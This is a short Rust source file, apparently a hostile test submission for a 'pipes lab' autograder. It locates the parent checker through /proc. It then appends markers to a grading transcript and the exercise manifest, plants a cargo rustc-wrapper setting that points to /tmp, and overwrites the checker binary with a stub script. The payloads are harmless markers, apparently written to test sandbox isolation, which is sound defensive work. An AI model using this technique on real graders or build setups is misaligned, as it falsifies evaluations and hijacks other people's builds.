//! attack: changes the workbook for the submissions graded after it: a transcript, the
//! manifest, cargo's settings (a rustc-wrapper) and the checker binary itself

use std::path::Path;

fn main() {
    let checker = std::os::unix::process::parent_id();
    let cmdline = std::fs::read(format!("/proc/{checker}/cmdline")).unwrap_or_default();
    let argv0 = String::from_utf8_lossy(cmdline.split(|b| *b == 0).next().unwrap_or_default())
        .into_owned();
    let exe = Path::new(&argv0);
    let Some(root) = exe.ancestors().nth(3) else { return };
    let tries = [
        (root.join("checker/transcripts/02_duplex_pipe.txt"), "$ pipes-lab-attack\n"),
        (root.join("checker/exercises.toml"), "# pipes-lab-attack\n"),
        (root.join(".cargo/config.toml"), "[build]\nrustc-wrapper = \"/tmp/pipes-lab-attack\"\n"),
    ];
    for (file, text) in tries {
        let appended = std::fs::OpenOptions::new()
            .append(true)
            .create(true)
            .open(&file)
            .and_then(|mut f| std::io::Write::write_all(&mut f, text.as_bytes()));
        eprintln!("{}: {appended:?}", file.display());
    }
    let wrapper = exe.with_file_name("pipes-lab-attack");
    let replaced = std::fs::write(&wrapper, "#!/bin/sh\necho pipes-lab-attack\n")
        .and_then(|_| std::fs::rename(&wrapper, exe));
    eprintln!("replacing the checker: {replaced:?}");
}
